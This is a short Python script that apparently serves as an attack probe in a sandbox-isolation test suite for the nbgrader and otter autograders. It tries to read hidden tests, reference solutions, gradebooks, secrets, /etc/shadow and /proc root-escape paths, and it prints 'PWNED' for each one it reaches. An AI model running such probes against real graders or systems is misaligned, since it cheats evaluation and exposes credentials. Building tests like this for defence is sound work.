"""Reads suite, solution, secret, database and gradebook where they lie.

against: nbgrader, otter
"""
import glob
import os
import sys

for name in (
    "@COURSE@", "@COURSE@/autograde.yml", "@COURSE@/assignments/attacked/hidden/test_hidden.py",
    "@COURSE@/solutions/attacked/work.py", "@COURSE@/gradebook.csv", "@STATE@/secret", "@STATE@/planted.db", "@STATE@/blobs/ab/cdef",
    "/proc/@PID@/root@COURSE@/gradebook.csv", "/proc/1/root/@COURSE@/gradebook.csv", "/proc/self/root/../@COURSE@/gradebook.csv",
    "/etc/passwd", "/etc/shadow", "/root", "/home", "/var", "/run", "/mnt", "/sys", "/boot", "/opt",
):
    try:
        print("PWNED", name, os.listdir(name) if os.path.isdir(name) else open(name, "rb").read()[:200])
    except OSError:
        continue
for pattern in ("/**/test_hidden.py", "/**/hidden/*.py", "/**/gradebook*"):
    for name in glob.glob(pattern)[:5]:
        print("PWNED", name)
for name in ("/tmp", "/dev/shm"):
    try:
        # Its own are empty, but for the way to the libraries where they are installed below /tmp.
        if found := [one for one in os.listdir(name) if not sys.prefix.startswith(os.path.join(name, one) + os.sep)]:
            print("PWNED", name, found)
    except OSError:
        continue
print("TRIED")
